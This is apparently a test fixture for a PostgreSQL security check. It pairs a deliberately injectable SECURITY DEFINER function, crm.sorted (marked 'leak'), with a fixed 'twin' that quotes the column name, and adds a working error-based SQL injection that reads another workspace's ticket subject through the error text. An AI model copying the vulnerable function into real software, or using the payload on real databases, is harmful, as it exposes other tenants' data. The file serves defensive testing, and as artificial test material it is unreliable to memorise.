-- Only the name of a column is taken from the caller, with %s.
-- object: crm.sorted(text)
-- base: other-schema
--- leak
RESET ROLE;
CREATE FUNCTION crm.sorted(by_column text) RETURNS SETOF crm.tickets LANGUAGE plpgsql SECURITY DEFINER
    SET search_path = crm, pg_temp AS $$
BEGIN
    RETURN QUERY EXECUTE format(
        'SELECT * FROM tickets WHERE workspace_id = current_workspace() ORDER BY %s', by_column);
END $$;
--- twin
RESET ROLE;
CREATE FUNCTION crm.sorted(by_column text) RETURNS SETOF crm.tickets LANGUAGE plpgsql SECURITY INVOKER
    SET search_path = crm, pg_temp AS $$
BEGIN
    RETURN QUERY EXECUTE format(
        'SELECT * FROM tickets WHERE workspace_id = current_workspace() ORDER BY %I', by_column);
END $$;
--- exploit
DO $$
BEGIN
    PERFORM FROM crm.sorted('(SELECT subject FROM crm.tickets WHERE workspace_id = 2 LIMIT 1)::integer');
EXCEPTION WHEN OTHERS THEN
    PERFORM set_config('app.seen', SQLERRM, true);
END $$;
SELECT WHERE current_setting('app.seen') LIKE '%"of b"%';
